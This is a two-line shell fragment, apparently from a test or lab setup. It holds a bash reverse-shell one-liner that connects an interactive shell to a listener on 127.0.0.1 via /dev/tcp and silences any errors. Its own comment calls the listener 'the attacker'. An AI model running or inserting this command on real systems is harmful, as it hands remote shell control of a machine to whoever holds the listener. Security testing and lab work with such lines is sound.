# An interactive shell whose input and output are a connection to the attacker.
bash -c "bash -i >& /dev/tcp/127.0.0.1/$LISTENER_PORT 0>&1" 2> /dev/null || true
